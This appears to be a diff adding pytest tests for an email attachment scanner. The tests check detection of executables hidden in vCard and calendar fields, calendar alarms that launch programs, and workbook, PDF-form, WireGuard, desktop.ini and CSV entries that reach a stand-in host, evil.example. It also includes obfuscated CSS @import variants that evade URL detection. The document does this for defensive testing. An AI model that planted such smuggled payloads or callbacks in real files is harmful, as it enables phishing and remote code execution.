@@ -4,6 +4,7 @@ import base64
 import io
 import lzma
 import struct
+import tarfile
 import zipfile
 import zlib
 
@@ -195,3 +196,130 @@ def test_streams_of_xz_with_padding(padding: int) -> None:
     )
     assert [(file.unread, file.content) for file in files[1:]] == [((), b"first\nsecond\n")]
     assert files[0].unread == ()
+
+
+PROGRAM = base64.b64encode(d.program("", b"data" * 50)).decode()
+
+
+def find_in(name: str, content: bytes) -> tuple[File, ...]:
+    return find_files(Message(parts=(Part("1", names=(name,), content=content),)))
+
+
+def extra_field(kind: int, payload: bytes) -> bytes:
+    info = zipfile.ZipInfo("a.txt")
+    info.extra = struct.pack("<HH", kind, len(payload)) + payload
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w") as archive:
+        archive.writestr(info, b"x")
+    return out.getvalue()
+
+
+def tar_with(**fields: str) -> bytes:
+    out = io.BytesIO()
+    with tarfile.open(fileobj=out, mode="w", format=tarfile.PAX_FORMAT) as archive:
+        entry = tarfile.TarInfo("a.txt")
+        entry.size, entry.pax_headers = 1, fields
+        archive.addfile(entry, io.BytesIO(b"x"))
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        ("a.zip", extra_field(0x554E, b"NUCX" + struct.pack("<H", 10) + "invoice.js".encode("utf-16-le"))),
+        ("a.tar", tar_with(path="invoice.js")),
+        ("a.tar", tar_with(**{"GNU.sparse.name": "invoice.js"})),
+    ],
+)
+def test_every_field_that_names_an_entry_is_a_name(name: str, content: bytes) -> None:
+    assert "invoice.js" in {known for file in find_in(name, content) for known in file.names}
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        f"LOGO;ENCODING=b;TYPE=PNG:{PROGRAM}",
+        f"SOUND;TYPE=WAVE;ENCODING=BASE64:{PROGRAM}",
+        f"X-DATA;ENCODING=b:{PROGRAM}",
+        f"item1.KEY;ENCODING=b:{PROGRAM}",
+        f'KEY;X="a:b";ENCODING=b:{PROGRAM}',
+        f'KEY;ENCODING="b":{PROGRAM}',
+        "NOTE;ENCODING=QUOTED-PRINTABLE:" + "".join(f"={byte:02X}" for byte in base64.b64decode(PROGRAM)),
+    ],
+)
+def test_payloads_of_every_property_of_a_card(line: str) -> None:
+    card = f"BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Ann\r\n{line}\r\nEND:VCARD\r\n".encode()
+    assert "exe" in [identify(file.content) for file in find_in("a.vcf", card)]
+
+
+def event(line: str) -> bytes:
+    return f"BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\n{line}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n".encode()
+
+
+def test_payloads_links_and_programs_of_events() -> None:
+    for line in (f"IMAGE;VALUE=BINARY;ENCODING=BASE64:{PROGRAM}", f'ATTACH;X-A="b:c";ENCODING=BASE64:{PROGRAM}'):
+        assert "exe" in [identify(file.content) for file in find_in("a.ics", event(line))]
+    for line in (
+        "CONFERENCE;VALUE=URI:https://evil.example/join",
+        'STYLED-DESCRIPTION;VALUE=TEXT;FMTTYPE=text/html:<a href="https://evil.example/">x</a>',
+    ):
+        assert "evil.example" in {link.host for file in find_in("a.ics", event(line)) for link in file.links}
+    alarm = "BEGIN:VALARM\r\nACTION:PROCEDURE\r\nATTACH:file:///c:/calc.exe\r\nEND:VALARM"
+    assert ("program-action", "alarm of a calendar") in traits("a.ics", event(alarm))
+    assert traits("a.ics", event("BEGIN:VALARM\r\nACTION:DISPLAY\r\nEND:VALARM")) == set()
+
+
+def test_connections_of_workbooks() -> None:
+    web = b'<?xml version="1.0"?><connections><connection><webPr url="https://evil.example/q"/></connection></connections>'
+    assert "evil.example" in {link.host for link in inspect("connections.xml", web).links}
+    base = (
+        b'<?xml version="1.0"?><connections><connection><dbPr connection="SERVER=%b;UID=a"/></connection></connections>'
+    )
+    assert traits("connections.xml", base % b"evil.example") == {("connection-settings", "evil.example")}
+    assert traits("connections.xml", base % b"(local)") == set()
+
+
+@pytest.mark.parametrize(
+    "form",
+    [
+        b'<submit target="https://evil.example/p" format="xml"/>',
+        b"<soapAddress>https://evil.example/s</soapAddress>",
+        b'<image href="https://evil.example/i.png"/>',
+    ],
+)
+def test_addresses_of_an_xml_form(form: bytes) -> None:
+    content = make_pdf(b"<</Type/Catalog/AcroForm<</XFA 2 0 R>>>>", stream(b"<template>" + form + b"</template>"))
+    assert "evil.example" in {link.host for link in inspect("a.pdf", content).links}
+
+
+def test_a_form_that_is_a_file_of_its_own() -> None:
+    script = b"<script contentType='application/x-javascript'>app.launchURL(\"https://evil.example/\")</script>"
+    form = b'<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">' + script + b"</xdp:xdp>"
+    assert ("pdf-javascript", 'app.launchURL("https://evil.example/")') in traits("a.xdp", form)
+
+
+def test_other_settings_of_connections_and_folders() -> None:
+    tunnel = b"[Interface]\nPrivateKey=x\nPostUp = /bin/sh -c id\n[Peer]\nEndpoint = evil.example:51820\n"
+    assert traits("wg0.conf", tunnel) == {
+        ("connection-settings", "evil.example:51820"),
+        ("program-action", "/bin/sh -c id"),
+    }
+    folder = b"[.ShellClassInfo]\r\nIconResource=\\\\evil.example\\s\\a.ico,0\r\n"
+    assert {name for name, _ in traits("desktop.ini", folder)} == {"shortcut-to-share"}
+    assert ("remote-object", "evil.server") in traits("a.csv", b'=RTD("evil.server",,"x")\n')
+
+
+@pytest.mark.parametrize(
+    "sheet",
+    [
+        "@import/**/'https://evil.example/a.css';",
+        "@IMPORT URL( 'https://evil.example/a.css' ) layer(a) screen;",
+        "@import 'https:\\2f\\2f evil.example/a.css';",
+        "@import 'https://evil.\\\nexample/a.css';",
+        "p{background:image-set('https://evil.example/a.png' 1x)}",
+        "p{background:src('https://evil.example/a.png')}",
+        "@font-face{font-family:a;src:u\\52l(https://evil.example/a.woff)}",
+    ],
+)
+def test_addresses_of_style_sheets_in_every_form(sheet: str) -> None:
+    assert "evil.example" in {link.host for link in read(message(f"<style>{sheet}</style><p>Hello")).links}
